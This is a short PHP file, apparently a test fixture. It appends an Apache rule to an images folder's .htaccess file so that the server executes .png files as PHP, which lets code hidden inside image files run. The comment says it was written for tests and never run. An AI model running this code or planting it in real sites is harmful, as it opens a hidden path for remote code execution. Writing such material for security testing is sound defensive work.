<?php
// a .htaccess appended with a line that has PHP run the folder's .png files: code hidden
// in an image (written for the tests, never run)
$rule = "\n<FilesMatch \"\\.png$\">\nAddType application/x-httpd-php .png\n</FilesMatch>\n";
$h = fopen($_SERVER['DOCUMENT_ROOT'] . '/images/.htaccess', 'a');
fwrite($h, $rule);
fclose($h);
